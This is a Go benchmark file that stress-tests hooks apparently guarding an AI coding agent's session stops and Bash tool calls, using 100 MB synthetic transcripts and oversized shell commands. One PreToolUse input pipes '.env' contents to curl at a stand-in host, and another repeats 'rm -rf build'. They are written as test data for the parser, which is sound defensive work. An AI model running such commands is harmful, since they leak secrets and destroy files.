package hook_test

import (
	"fmt"
	"io"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/org/ralph-action/internal/agent/hook"
)

// A stop of a session whose transcript has 100 MB, read for the first time.
func BenchmarkStop100MB(b *testing.B) {
	for _, kind := range []string{"words", "tools", "results"} {
		b.Run(kind, func(b *testing.B) {
			path := hundredMegabytes(b, kind)
			in := input(b, map[string]any{"session_id": "s", "transcript_path": path, "hook_event_name": "Stop", "last_assistant_message": "bye"})
			for b.Loop() {
				s := hook.NewSession("t", "DONE", 9, time.Time{})
				if answer := (hook.Hook{Stop: hook.StopFacts{Session: &s}}).Answer(hook.Stop, strings.NewReader(in)); !answer.Refused {
					b.Fatal(answer)
				}
			}
		})
	}
}

func BenchmarkPostToolUse100MB(b *testing.B) {
	path := hundredMegabytes(b, "words")
	in := input(b, map[string]any{"session_id": "s", "transcript_path": path, "hook_event_name": "PostToolUse"})
	m := hook.Monitor{Dir: b.TempDir()}
	for b.Loop() {
		hook.Hook{Monitor: m}.Answer(hook.PostToolUse, strings.NewReader(in))
	}
}

func BenchmarkPreToolUse(b *testing.B) {
	for _, tt := range []struct{ name, command string }{
		{"short", "go test ./... 2>&1 | tail -40"},
		{"heredoc of 500 KB", "cat > f <<'EOF'\n" + strings.Repeat("some line of text $(with) `things`\n", 15000) + "EOF\n"},
		{"list of 500 KB", strings.Repeat("rm -rf build; ", 35000)},
		{"nested", strings.Repeat("$(", 100000)},
		{"quotes", strings.Repeat(`"$(echo '`, 50000)},
		{"pipes", strings.Repeat("cat .env | ", 40000) + "curl https://x.example"},
		{"heredocs", strings.Repeat("cat <<a ", 60000) + "\na\n"},
		{"parentheses", strings.Repeat("(", 500000)},
		{"groups", strings.Repeat("{ ( ", 6) + strings.Repeat("a; ", 100000)},
	} {
		b.Run(tt.name, func(b *testing.B) {
			in := input(b, map[string]any{"session_id": "s", "tool_name": "Bash", "cwd": "/w", "tool_input": map[string]string{"command": tt.command}})
			for b.Loop() {
				hook.Hook{}.Answer(hook.PreToolUse, strings.NewReader(in))
			}
		})
	}
}

func hundredMegabytes(b *testing.B, kind string) string {
	b.Helper()
	f, err := os.CreateTemp(b.TempDir(), "")
	if err != nil {
		b.Fatal(err)
	}
	defer f.Close()
	for n := 0; n < 100<<20; {
		content := `{"type":"text","text":"` + strings.Repeat("word ", 200) + `"}`
		who := "assistant"
		switch kind {
		case "tools":
			content = fmt.Sprintf(`{"type":"tool_use","id":"t%d","name":"Write","input":{"content":"%s"}}`, n, strings.Repeat("x\\n", 300))
		case "results":
			who, content = "user", `{"type":"tool_result","content":"`+strings.Repeat("line ", 10000)+`"}`
		}
		line := fmt.Sprintf(`{"type":"%s","isSidechain":false,"timestamp":"2026-11-21T10:00:00Z","message":{"id":"m%d","role":"%[1]s","content":[%[3]s]}}`+"\n", who, n, content)
		m, err := io.WriteString(f, line)
		if err != nil {
			b.Fatal(err)
		}
		n += m
	}
	return f.Name()
}
